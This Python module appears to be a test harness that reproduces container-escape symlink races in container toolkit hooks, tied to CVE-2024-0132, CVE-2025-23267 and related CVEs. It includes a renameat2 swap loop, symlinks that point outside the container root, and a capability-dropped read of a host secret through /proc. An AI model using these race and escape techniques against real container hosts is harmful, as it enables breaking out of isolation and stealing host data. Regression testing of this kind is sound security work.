"""What changes while a hook looks at it, and who looks at a hook."""

import ctypes
import json
import os
import pathlib
import signal
import struct
import subprocess

from world import CONTAINER_ID, LIBC, SECRET

AT_FDCWD, RENAME_EXCHANGE = -100, 2
# What a container has by default with Docker and containerd: CHOWN, DAC_OVERRIDE, FOWNER, FSETID, KILL, SETGID,
# SETUID, SETPCAP, NET_BIND_SERVICE, NET_RAW, SYS_CHROOT, MKNOD, AUDIT_WRITE, SETFCAP.
CAPABILITIES_OF_CONTAINERS = sum(1 << bit for bit in (0, 1, 3, 4, 5, 6, 7, 8, 10, 13, 18, 27, 29, 31))


class Swapping:
    """A process that exchanges two names for as long as the block lasts."""

    def __init__(self, one, other):
        self.one, self.other = os.fsencode(one), os.fsencode(other)

    def __enter__(self):
        self.process = os.fork()
        if self.process == 0:
            LIBC.prctl(1, signal.SIGKILL, 0, 0, 0)  # PR_SET_PDEATHSIG
            while True:
                LIBC.renameat2(AT_FDCWD, self.one, AT_FDCWD, self.other, RENAME_EXCHANGE)
        return self

    def stand_still(self):
        os.kill(self.process, signal.SIGSTOP)
        os.waitpid(self.process, os.WUNTRACED)

    def go_on(self):
        os.kill(self.process, signal.SIGCONT)

    def __exit__(self, *_):
        os.kill(self.process, signal.SIGKILL)
        os.waitpid(self.process, 0)


def a_folder_that_is_written_to(w):
    """CVE-2024-0133, CVE-2025-23359"""
    w.at("/usr/lib/driver").mkdir(exist_ok=True)
    (w.root / "usr/lib/other").symlink_to(w.up("/folder"))
    return (w.root / "usr/lib/driver", w.root / "usr/lib/other"), ["create-symlinks", "--link",
                                                                  "target::/usr/lib/driver/mark"]


def a_folder_of_the_loaders(w):
    """CVE-2025-23267"""
    w.at("/etc/ld.so.conf.d").mkdir(exist_ok=True)
    (w.root / "etc/other").symlink_to(w.outside)
    return (w.root / "etc/ld.so.conf.d", w.root / "etc/other"), ["update-ldcache", "--folder", "/usr/lib/driver"]


def a_folder_that_is_read(w):
    """CVE-2024-0132, CVE-2025-23359"""
    w.write("/usr/local/cuda/compat/libcuda.so.999.1", "")
    (w.root / "usr/local/cuda/other").symlink_to(w.up(""))
    return (w.root / "usr/local/cuda/compat", w.root / "usr/local/cuda/other"), [
        "enable-cuda-compat", "--host-driver-version=580.95.05"]


SWAPS = (a_folder_that_is_written_to, a_folder_of_the_loaders, a_folder_that_is_read)


def swap(w, prepare, command, rounds):
    """The round in which there was harm, and the harm; the number of rounds and [] when there was none."""
    names, arguments = prepare(w)
    w.settle()
    with Swapping(*names) as swapping:
        for count in range(rounds):
            w.run_directly([*command, *arguments])
            swapping.stand_still()
            harm = w.harm()
            if harm:
                return count, harm
            swapping.go_on()
    return rounds, []


class Waiting:
    """A hook that waits for its container's state: it has given up what it gives up, and touched nothing yet."""

    def __init__(self, w, command):
        self.w = w
        self.pipe = w.folder / "state"
        os.mkfifo(self.pipe)
        self.process = subprocess.Popen([*command, "create-symlinks", f"--container-spec={self.pipe}", "--link",
                                         "target::/usr/lib/driver/mark"], stderr=subprocess.PIPE)
        self.end = os.open(self.pipe, os.O_WRONLY)  # returns when the hook has opened it

    def __enter__(self):
        return self

    def status(self):
        lines = pathlib.Path(f"/proc/{self.process.pid}/status").read_text().splitlines()
        return dict(line.split(":\t", 1) for line in lines if ":\t" in line)

    def __exit__(self, *_):
        os.write(self.end, json.dumps({"id": CONTAINER_ID, "bundle": str(self.w.bundle), "root": "rootfs"}).encode())
        os.close(self.end)
        self.error = self.process.communicate()[1].decode()


def look_as_a_container(path):
    """What a process with a container's capabilities, in the same PID namespace, reads at `path`; "" when it may not."""
    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:
        text = b""
        try:
            header = struct.pack("<Ii", 0x20080522, 0)
            sets = struct.pack("<6I", CAPABILITIES_OF_CONTAINERS, CAPABILITIES_OF_CONTAINERS, 0, 0, 0, 0)
            if LIBC.syscall(126, ctypes.c_char_p(header), ctypes.c_char_p(sets)) == 0:
                text = pathlib.Path(path).read_bytes()
        except OSError:
            pass
        finally:
            os.write(write_end, text)
            os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as pipe:
        text = pipe.read().decode()
    os.waitpid(child, 0)
    return text


def tells_the_secret(w, hook):
    return look_as_a_container(f"/proc/{hook.process.pid}/root{w.outside}/secret") == SECRET
